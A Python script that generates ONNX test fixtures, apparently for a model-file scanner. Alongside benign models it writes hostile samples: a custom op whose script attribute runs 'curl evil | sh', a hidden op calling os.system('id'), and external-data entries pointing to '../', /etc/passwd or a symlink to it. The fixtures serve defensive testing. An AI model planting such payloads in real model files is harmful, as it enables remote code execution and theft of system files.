#!/usr/bin/env python3
"""Generates tests/fixtures/onnx/ (run with Debian's /usr/bin/python3 and
python3-onnx 1.12; the tests themselves need neither).

Benign: a plain MLP, If/Loop/Scan with nested graphs, a model-local function,
a com.microsoft contrib op, external data inside the model's folder,
string/bool/fp16 initializers, a torch.onnx export.
Hostile: a custom-domain op carrying a Python 'script', a PyOp in
ai.onnx.contrib, a custom op hidden in an If branch, external data with
'../', an absolute path, a symlink out of the folder, onnxruntime's memory
address tag.  Invalid: a missing or too short external file, a truncated
model.  Hostile models are only written here, never loaded with an ML
library.
"""
import os
import shutil
import sys

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "onnx")
OPSET = [helper.make_operatorsetid("", 13)]


def save(model, name):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(model.SerializeToString())
    return path


def model(graph, opsets=None, **kw):
    m = helper.make_model(graph, opset_imports=opsets or OPSET, producer_name="laocoon-gen",
                          producer_version="1", **kw)
    m.ir_version = 8
    return m


def vi(name, dtype, shape):
    return helper.make_tensor_value_info(name, dtype, shape)


def mlp():
    rng = np.random.default_rng(0)
    w1 = numpy_helper.from_array(rng.standard_normal((4, 8)).astype(np.float32), "w1")
    b1 = numpy_helper.from_array(np.zeros(8, np.float32), "b1")
    w2 = numpy_helper.from_array(rng.standard_normal((8, 2)).astype(np.float32), "w2")
    nodes = [
        helper.make_node("MatMul", ["x", "w1"], ["h0"], name="fc1"),
        helper.make_node("Add", ["h0", "b1"], ["h1"], name="bias1"),
        helper.make_node("Relu", ["h1"], ["h2"], name="relu1"),
        helper.make_node("MatMul", ["h2", "w2"], ["y"], name="fc2"),
    ]
    g = helper.make_graph(nodes, "mlp", [vi("x", TensorProto.FLOAT, ["N", 4])],
                          [vi("y", TensorProto.FLOAT, ["N", 2])], [w1, b1, w2])
    save(model(g), "mlp.onnx")
    return g


def control_flow():
    # If: two constant branches
    then_g = helper.make_graph([helper.make_node("Constant", [], ["t"], value=numpy_helper.from_array(
        np.ones(2, np.float32), "tv"))], "then_body", [], [vi("t", TensorProto.FLOAT, [2])])
    else_g = helper.make_graph([helper.make_node("Constant", [], ["e"], value=numpy_helper.from_array(
        np.zeros(2, np.float32), "ev"))], "else_body", [], [vi("e", TensorProto.FLOAT, [2])])
    if_node = helper.make_node("If", ["cond"], ["r_if"], name="branch", then_branch=then_g, else_branch=else_g)
    # Loop whose body holds a nested If
    inner_then = helper.make_graph([helper.make_node("Identity", ["acc_in"], ["it"])], "inner_then", [],
                                   [vi("it", TensorProto.FLOAT, [2])])
    inner_else = helper.make_graph([helper.make_node("Neg", ["acc_in"], ["ie"])], "inner_else", [],
                                   [vi("ie", TensorProto.FLOAT, [2])])
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("If", ["cond_in"], ["acc_out"], name="inner_if", then_branch=inner_then,
                          else_branch=inner_else)],
        "loop_body",
        [vi("i", TensorProto.INT64, []), vi("cond_in", TensorProto.BOOL, []), vi("acc_in", TensorProto.FLOAT, [2])],
        [vi("cond_out", TensorProto.BOOL, []), vi("acc_out", TensorProto.FLOAT, [2])])
    loop_node = helper.make_node("Loop", ["trip", "cond", "r_if"], ["r_loop"], name="loop", body=body)
    # Scan summing rows
    scan_body = helper.make_graph(
        [helper.make_node("Add", ["s_in", "row"], ["s_out"]), helper.make_node("Identity", ["s_out"], ["row_out"])],
        "scan_body", [vi("s_in", TensorProto.FLOAT, [2]), vi("row", TensorProto.FLOAT, [2])],
        [vi("s_out", TensorProto.FLOAT, [2]), vi("row_out", TensorProto.FLOAT, [2])])
    scan_node = helper.make_node("Scan", ["r_loop", "rows"], ["y", "ys"], name="scan", body=scan_body,
                                 num_scan_inputs=1)
    trip = numpy_helper.from_array(np.array(3, np.int64), "trip")
    g = helper.make_graph([if_node, loop_node, scan_node], "control_flow",
                          [vi("cond", TensorProto.BOOL, []), vi("rows", TensorProto.FLOAT, [5, 2])],
                          [vi("y", TensorProto.FLOAT, [2]), vi("ys", TensorProto.FLOAT, [5, 2])], [trip])
    save(model(g), "control_flow.onnx")


def function():
    fn = helper.make_function("local.fn", "Swish", ["X"], ["Y"],
                              [helper.make_node("Sigmoid", ["X"], ["S"]), helper.make_node("Mul", ["X", "S"], ["Y"])],
                              [helper.make_operatorsetid("", 13)])
    g = helper.make_graph([helper.make_node("Swish", ["x"], ["y"], domain="local.fn", name="swish")], "with_function",
                          [vi("x", TensorProto.FLOAT, [3])], [vi("y", TensorProto.FLOAT, [3])])
    save(model(g, OPSET + [helper.make_operatorsetid("local.fn", 1)], functions=[fn]), "function.onnx")


def contrib():
    g = helper.make_graph([helper.make_node("Gelu", ["x"], ["y"], domain="com.microsoft", name="gelu")], "contrib",
                          [vi("x", TensorProto.FLOAT, [3])], [vi("y", TensorProto.FLOAT, [3])])
    save(model(g, OPSET + [helper.make_operatorsetid("com.microsoft", 1)]), "contrib.onnx")


def custom(name, domain, op, **attrs):
    g = helper.make_graph([helper.make_node(op, ["x"], ["y"], domain=domain, name="custom", **attrs)], "custom",
                          [vi("x", TensorProto.FLOAT, [3])], [vi("y", TensorProto.FLOAT, [3])])
    save(model(g, OPSET + [helper.make_operatorsetid(domain, 1)]), name)


def nested_custom():
    then_g = helper.make_graph(
        [helper.make_node("Transform", ["x"], ["t"], domain="evil.ops", name="hidden",
                          code="import os\nos.system('id')\n")],
        "then_body", [], [vi("t", TensorProto.FLOAT, [3])])
    else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["e"])], "else_body", [],
                               [vi("e", TensorProto.FLOAT, [3])])
    g = helper.make_graph([helper.make_node("If", ["c"], ["y"], then_branch=then_g, else_branch=else_g, name="gate")],
                          "nested_custom", [vi("c", TensorProto.BOOL, []), vi("x", TensorProto.FLOAT, [3])],
                          [vi("y", TensorProto.FLOAT, [3])])
    save(model(g, OPSET + [helper.make_operatorsetid("evil.ops", 1)]), "nested_custom.onnx")


def external(folder, location, data=None, length=None, offset=None, link=None):
    """A MatMul whose weight (4x2 float32, 32 bytes) lives in an external file."""
    d = os.path.join(OUT, folder)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    w = TensorProto()
    w.name = "w"
    w.data_type = TensorProto.FLOAT
    w.dims.extend([4, 2])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", offset), ("length", length)):
        if v is not None:
            e = w.external_data.add()
            e.key = k
            e.value = str(v)
    g = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"], name="fc")], "external",
                          [vi("x", TensorProto.FLOAT, [1, 4])], [vi("y", TensorProto.FLOAT, [1, 2])], [w])
    save(model(g), os.path.join(folder, "model.onnx"))
    if data is not None:
        with open(os.path.join(d, location), "wb") as f:
            f.write(data)
    if link is not None:
        os.symlink(link, os.path.join(d, location))


def dtypes():
    inits = [
        helper.make_tensor("labels", TensorProto.STRING, [3], [b"cat", b"dog", b"\xc3\xa9l\xc3\xa9phant"]),
        numpy_helper.from_array(np.array([True, False, True]), "mask"),
        numpy_helper.from_array(np.arange(6, dtype=np.float16).reshape(2, 3), "half"),
        helper.make_tensor("ints", TensorProto.INT64, [4], [1, -2, 3, -4]),  # int64_data, packed
        helper.make_tensor("bf", TensorProto.BFLOAT16, [2], [1, 2]),
    ]
    nodes = [helper.make_node("Cast", ["half"], ["y"], to=TensorProto.FLOAT, name="cast")]
    g = helper.make_graph(nodes, "dtypes", [], [vi("y", TensorProto.FLOAT, [2, 3])], inits)
    save(model(g), "dtypes.onnx")


def torch_export():
    try:
        import torch
    except Exception as e:  # python3-torch not installed: keep the committed file
        print("torch not available, torch_tiny.onnx left as is:", e, file=sys.stderr)
        return

    class Tiny(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.conv = torch.nn.Conv2d(1, 2, 3)
            self.fc = torch.nn.Linear(8, 3)

        def forward(self, x):
            return self.fc(torch.relu(self.conv(x)).flatten(1))

    torch.manual_seed(0)
    path = os.path.join(OUT, "torch_tiny.onnx")
    torch.onnx.export(Tiny().eval(), torch.zeros(1, 1, 4, 4), path, input_names=["image"], output_names=["logits"],
                      dynamic_axes={"image": {0: "batch"}}, opset_version=13)


def main():
    os.makedirs(OUT, exist_ok=True)
    g = mlp()
    control_flow()
    function()
    contrib()
    custom("custom_op.onnx", "com.example.ops", "FancyNorm", eps=1e-5)
    custom("python_script.onnx", "custom_domain", "Transform",
           script="import subprocess\nsubprocess.run(['sh', '-c', 'curl evil | sh'])\n")
    custom("pyop_contrib.onnx", "ai.onnx.contrib", "PyOp", CustomType="Reverse")
    nested_custom()
    weights = np.arange(8, dtype=np.float32).tobytes()
    external("ext_ok", "weights.bin", data=weights)
    external("ext_offset", "weights.bin", data=b"\0" * 64 + weights, offset=64, length=32)
    external("ext_dotdot", "../secret.bin")
    external("ext_abs", "/etc/passwd")
    external("ext_symlink", "weights.bin", link="/etc/passwd")
    external("ext_missing", "nothere.bin")
    external("ext_short", "weights.bin", data=weights[:16])
    external("ext_memaddr", "*/_ORT_MEM_ADDR_/*", offset=4096, length=32)
    dtypes()
    # truncated: the MLP cut in the middle of its graph
    data = model(g).SerializeToString()
    with open(os.path.join(OUT, "truncated.onnx"), "wb") as f:
        f.write(data[: len(data) * 2 // 3])
    torch_export()
    # fuzz seeds: the single-file models
    seeds = os.path.join(OUT, "..", "..", "..", "fuzz", "corpus", "onnx")
    os.makedirs(seeds, exist_ok=True)
    for name in sorted(os.listdir(OUT)):
        if name.endswith(".onnx"):
            shutil.copy(os.path.join(OUT, name), os.path.join(seeds, name[:-5]))
    shutil.copy(os.path.join(OUT, "ext_dotdot", "model.onnx"), os.path.join(seeds, "ext_dotdot"))


if __name__ == "__main__":
    main()
